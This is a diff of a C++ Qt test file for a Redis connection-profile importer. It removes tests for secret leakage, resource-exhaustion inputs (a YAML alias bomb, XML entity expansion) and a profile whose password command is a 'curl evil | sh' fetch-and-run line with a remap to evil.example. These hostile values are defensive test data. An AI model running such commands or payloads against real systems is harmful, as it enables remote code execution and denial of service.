@@ -1,96 +1,12 @@
 // What people paste, and what must come of it; each row is checked against a line that says all
 // that was understood.
+#include "imports.h"
 #include "profiles/exchange.h"
-#include "profiles/importer.h"
-#include "profiles/importing/draft.h"
-#include <QElapsedTimer>
-#include <QJsonArray>
-#include <QJsonDocument>
-#include <QJsonObject>
 #include <QTest>
 
 using profiles::Candidate;
 using profiles::Found;
-using profiles::Import;
 using profiles::Profile;
-
-namespace {
-QByteArray quotes(QByteArray text)
-{
-    return text.replace('\'', '"');
-}
-
-/// "h:6379 db=2 user=u pw=p tls cluster …", only what differs from a new profile.
-QString summary(const Candidate &c)
-{
-    const Profile &p = c.profile;
-    QStringList out{ p.address() };
-    const auto say = [&](const char *name, const QString &value) {
-        if (!value.isEmpty())
-            out += QLatin1String(name) + u'=' + value;
-    };
-    say("db", p.db ? QString::number(p.db) : QString());
-    say("user", p.user);
-    say("pw", QString::fromUtf8(c.secrets.password.reveal()));
-    if (p.tls.enabled)
-        out += QStringLiteral("tls");
-    if (!p.tls.verify)
-        out += QStringLiteral("unverified");
-    say("ca", p.tls.caFile);
-    say("cert", p.tls.certificateFile);
-    say("key", p.tls.keyFile);
-    say("sni", p.tls.serverName);
-    if (p.topology == profiles::Topology::Cluster)
-        out += QStringLiteral("cluster");
-    if (p.topology == profiles::Topology::Standalone)
-        out += QStringLiteral("standalone");
-    QStringList seeds;
-    for (const auto &seed : p.seeds)
-        seeds += seed.toString();
-    say("seeds", seeds.join(u','));
-    say("sentinel", p.sentinel.primaryName);
-    say("sentineluser", p.sentinel.user);
-    say("sentinelpw", QString::fromUtf8(c.secrets.sentinelPassword.reveal()));
-    say("region", p.iam.region);
-    say("aws", p.iam.awsProfile);
-    QStringList hops;
-    for (const auto &hop : p.tunnel.hops)
-        hops +=
-            QStringLiteral("%1@%2:%3 %4").arg(hop.user, hop.host).arg(hop.port).arg(hop.keyFile);
-    say("ssh", hops.join(u'>').trimmed());
-    say("ssm", p.tunnel.target);
-    if (p.readOnly)
-        out += QStringLiteral("readonly");
-    say("group", p.group);
-    return out.join(u' ');
-}
-
-QString summary(const base::Result<Import> &import)
-{
-    if (!import)
-        return QStringLiteral("error");
-    QStringList all;
-    for (const Candidate &c : import->candidates)
-        all += summary(c);
-    return all.join(QStringLiteral(" | "));
-}
-
-QList<Found> foundOf(const Import &import, Found::Kind kind)
-{
-    QList<Found> list;
-    for (const Candidate &c : import.candidates) {
-        for (const Found &each : c.found) {
-            if (each.kind == kind)
-                list += each;
-        }
-    }
-    for (const Found &each : import.others) {
-        if (each.kind == kind)
-            list += each;
-    }
-    return list;
-}
-} // namespace
 
 class TestImporter : public QObject {
     Q_OBJECT
@@ -166,7 +82,8 @@ private Q_SLOTS:
         row("redis-cli -h h \\\n  -p 6390 \\\n  --user u --pass p", "h:6390 user=u pw=p");
         row("ssh -i key.pem -N -L 6379:endpoint.example:6380 ec2-user@bastion -J j1,u@j2:2200 -p "
             "2222",
-            "endpoint.example:6380 ssh=@j1:22 >u@j2:2200 >ec2-user@bastion:2222 key.pem");
+            "endpoint.example:6380 ssh=@j1:22 >u@j2:2200 >ec2-user@bastion:2222 key.pem "
+            "openssh by key-file");
         row("ssh -NL 6390:e.example:6379 u@b\nredis-cli -h 127.0.0.1 -p 6390 -a pw --tls",
             "e.example:6379 pw=pw tls ssh=u@b:22");
         row("aws ssm start-session --target i-0ab --document-name "
@@ -343,7 +260,7 @@ private Q_SLOTS:
             "'ssh_port':22,'namespace_separator':':'}]}]")
                                   << QStringLiteral("RESP.app")
                                   << QStringLiteral("h:6380 user=u pw=p tls ca=/ca cert=/c key=/k "
-                                                    "ssh=su@b:2222 /id | "
+                                                    "ssh=su@b:2222 /id by key-file | "
                                                     "i:1 group=G");
         QTest::newRow("RDM XML") << quotes(
             "<?xml version='1.0'?>\n<connections>\n<connection name='A' host='h' port='6380' "
@@ -364,7 +281,7 @@ private Q_SLOTS:
                    .toBase64()
             << QStringLiteral("Another Redis Desktop Manager")
             << QStringLiteral("h:6380 user=u pw=p tls ca=/ca cert=/c key=/k sni=s.example "
-                              "ssh=su@b:22 /id readonly | "
+                              "ssh=su@b:22 /id by key-file readonly | "
                               "s:26379 pw=np sentinel=m sentinelpw=spw | c:1 cluster");
         QTest::newRow("Tiny RDM")
             << QByteArray(
@@ -383,7 +300,7 @@ private Q_SLOTS:
             << QStringLiteral("Tiny RDM")
             << QStringLiteral(
                    "h:6380 user=u pw=p tls unverified ca=/ca cert=/c key=/k sni=s.example "
-                   "ssh=su@b:22 /id | "
+                   "ssh=su@b:22 /id by key-file | "
                    "s:26379 pw=mp sentinel=m sentinelpw=spw group=G | c:1 cluster group=G");
     }
     void zippedExport_isReadThroughItsZip()
@@ -468,44 +385,6 @@ private Q_SLOTS:
         QCOMPARE(marked[0].line, 5);
     }
 
-    void secrets_areShownNowhere_data()
-    {
-        QTest::addColumn<QByteArray>("text");
-        for (const char *text :
-             { "redis://u:hunter2@h:1/x", "redis://h\nredis://u:hunter2@h:99999",
-               "redis-cli -h h -a hunter2 --what", "redis-cli -h h --pass=hunter2",
-               "REDIS_HOST=h\nREDIS_PASSWORD=hunter2\nREDIS_SECRET_TOKEN=hunter2",
-               "REDIS_HOST=h\nMY_DB_PASSWORD=hunter2 oops\nstrange password: hunter2",
-               "new Redis({host:'h', password:'hunter2', foo: 'hunter2'})",
-               "spring:\n  data:\n    redis:\n      host: h\n      password: hunter2\n      what: "
-               "hunter2\n",
-               "REDIS_HOST=h\nREDIS_SECRET_TOKEN=two hunter2 words",
-               "new Redis({host:'h', password:'two hunter2', token: 'two hunter2'})",
-               "{\"host\":\"h\",\"password\":\"two \\u0068unter2 hunter2\"}", "redis://u:hunter2@",
-               "rediss-x://u:hunter2@h", "h:1 hunter2 password=hunter2",
-               "REDIS_URL=redis://:hunter2@h:99999", "password: [hunter2\nhost: h" })
-            QTest::newRow(text) << QByteArray(text);
-    }
-    void secrets_areShownNowhere()
-    {
-        QFETCH(QByteArray, text);
-        const auto import = profiles::readImport(text);
-        const QString secret = QStringLiteral("hunter2");
-        if (!import) {
-            QVERIFY(!import.error().text.contains(secret));
-            QVERIFY(!import.error().detail.contains("hunter2"));
-            return;
-        }
-        QList<Found> all = import->others;
-        for (const Candidate &c : import->candidates) {
-            all += c.found;
-            QVERIFY(!c.profile.name.contains(secret) && !c.profile.host.contains(secret));
-        }
-        for (const Found &each : all)
-            QVERIFY2(!(each.value + each.source + each.field).contains(secret),
-                     qPrintable(each.field + u'|' + each.value + u'|' + each.source));
-    }
-
     void elastiCacheNames_areGuessed_data()
     {
         QTest::addColumn<QString>("host");
@@ -573,127 +452,6 @@ private Q_SLOTS:
         QVERIFY(p.tls.enabled);
         QCOMPARE(p.iam.region, QStringLiteral("eu-west-1"));
         QCOMPARE(p.name, QStringLiteral("x"));
-    }
-
-    void hostileText_endsInASentence_data()
-    {
-        QTest::addColumn<QByteArray>("text");
-        QTest::newRow("zeros") << QByteArray(100'000, '\0');
-        QTest::newRow("invalid UTF-8") << QByteArray(100'000, '\xff');
-        QTest::newRow("brackets") << QByteArray(1'000'000, '[');
-        QTest::newRow("braces") << QByteArray(1'000'000, '{');
-        QTest::newRow("yaml brackets") << "a: " + QByteArray(1'000'000, '[');
-        QTest::newRow("yaml dashes") << "a:\n" + QByteArray("- ").repeated(500'000);
-        QTest::newRow("yaml questions") << "a:\n" + QByteArray("? ").repeated(200'000);
-        QTest::newRow("nested maps") << QByteArray("a: {").repeated(100'000);
-        QByteArray bomb = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n";
-        for (int i = 1; i < 12; ++i) {
-            const QByteArray last = "*a" + QByteArray::number(i - 1);
-            bomb += "a" + QByteArray::number(i) + ": &a" + QByteArray::number(i) + " [" + last;
-            for (int j = 0; j < 9; ++j)
-                bomb += "," + last;
-            bomb += "]\n";
-        }
-        QTest::newRow("yaml aliases") << bomb;
-        QTest::newRow("xml entities")
-            << QByteArray("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">"
-                          "<!ENTITY c \"&b;&b;&b;&b;\">]><x>&c;</x>");
-        QTest::newRow("calls") << QByteArray("Redis(").repeated(200'000);
-        QTest::newRow("quotes") << QByteArray("Redis('").repeated(200'000);
-        QTest::newRow("zip") << QByteArray("PK\x03\x04 and more");
-        QTest::newRow("endless line") << QByteArray(20'000'000, 'a');
-        QTest::newRow("many lines") << QByteArray("x y\n").repeated(5'000'000);
-        QTest::newRow("50 MB of brackets") << QByteArray(50'000'000, '[');
-        QTest::newRow("variables that lead to themselves")
-            << QByteArray("A=${B}\nB=${A}\nREDIS_PORT=${A}\nREDIS_PORT=${REDIS_PORT}\n");
-    }
-    void hostileText_endsInASentence()
-    {
-        QFETCH(QByteArray, text);
-        const auto import = profiles::readImport(text);
-        if (!import)
-            QVERIFY(!import.error().text.isEmpty());
-        else
-            QVERIFY(import->candidates.size() <= 500);
-    }
-
-    void ownExport_warnsOfWhatItBringsAlong()
-    {
-        const auto import = profiles::readImport(
-            quotes("{'larder': 1, 'profiles': [{'name': 'prod', 'host': 'prod.example',"
-                   "'authentication': 'password', 'passwordSource': 'command',"
-                   "'passwordCommand': ['sh', '-c', 'curl \\'evil\\'|sh', 'a\\nb'],"
-                   "'addressMap': {'prod.example:6379': 'evil.example:1'},"
-                   "'allowDangerous': true, 'tls': {'enabled': true, 'verify': false,"
-                   "'certificateFile': '/c.pem', 'keyFile': '/k.pem'},"
-                   "'topology': 'sentinel', 'seeds': ['s.example:26379']}]}"));
-        QVERIFY2(import, import ? "" : qPrintable(import.error().text));
-        QCOMPARE(import->candidates.size(), 1);
-        const QList<Found> &found = import->candidates.first().found;
-        const auto warnings = foundOf(*import, Found::Kind::Warning);
-        QCOMPARE(warnings.size(), 4);
-        QCOMPARE(found.first().value,
-                 QStringLiteral("This connection runs a program on this computer: \"sh\" \"-c\" "
-                                "\"curl \\\"evil\\\"|sh\" \"a\\u000ab\""));
-        QVERIFY(found[1].value.contains(QLatin1String("\"evil.example:1\"")));
-        QStringList stated;
-        for (const Found &each : found)
-            stated += each.value;
-        for (const char *file : { "/c.pem", "/k.pem", "s.example:26379" })
-            QVERIFY2(stated.contains(QLatin1String(file)), file);
-    }
-
-    void unverifiedTls_isAWarningInAnyFormat()
-    {
-        const auto import = profiles::readImport("redis-cli --tls --insecure -h h.example");
-        QVERIFY(import.has_value());
-        QCOMPARE(import->candidates.size(), 1);
-        QCOMPARE(foundOf(*import, Found::Kind::Warning).size(), 1);
-    }
-
-    void valuesThatMultiplyEachOther_endSoon()
-    {
-        QHash<QString, QString> none;
-        profiles::importing::Context context({}, none);
-        for (char name = 'A'; name < 'H'; ++name)
-            context.define(QString(QLatin1Char(name)),
-                           QStringLiteral("${%1}").arg(QLatin1Char(char(name + 1))).repeated(60));
-        QStringList missing;
-        const QString value = context.resolved(QStringLiteral("${A}"), missing);
-        QVERIFY(value.size() <= 64 * 1024);
-        // What is left stays as written, for this value and for the next.
-        QCOMPARE(context.resolved(QStringLiteral("${J}"), missing), QStringLiteral("${J}"));
-    }
-
-    void namesThatGrowByNesting_areRefused()
-    {
-        const QByteArray key(180, 'k');
-        const QByteArray many = QByteArray("1,").repeated(100'000) + "1";
-        const QByteArray json =
-            "{" + ('"' + key + "\":{").repeated(10) + "\"a\":[" + many + "]" + QByteArray(11, '}');
-        const profiles::importing::Context context(QString::fromUtf8(json), {});
-        QVERIFY(!profiles::importing::readLiteral(context, 0));
-        const QByteArray longer =
-            "{" + ('"' + key + "\":{").repeated(12) + "\"a\":1" + QByteArray(13, '}');
-        const profiles::importing::Context deep(QString::fromUtf8(longer), {});
-        QVERIFY(!profiles::importing::readLiteral(deep, 0));
-    }
-
-    void namesThatGrowByAliases_areRefusedOverAllDocuments()
-    {
-        const QByteArray key(180, 'k');
-        const QByteArray document = "---\n" + ("{" + key + ": ").repeated(10) + "[&a ["
-            + QByteArray("x,").repeated(50) + "x]" + QByteArray(", *a").repeated(40) + "]"
-            + QByteArray(10, '}') + "\n";
-        QVERIFY(profiles::importing::readYaml(QString::fromUtf8(document)).has_value());
-        QVERIFY(!profiles::importing::readYaml(QString::fromUtf8(document.repeated(10))));
-    }
-
-    void tooMuch_isRefusedAtOnce()
-    {
-        const auto import = profiles::readImport(QByteArray(65 * 1024 * 1024, 'a'));
-        QVERIFY(!import.has_value());
-        QCOMPARE(import.error().kind, base::Error::Kind::TooLarge);
     }
 };
 
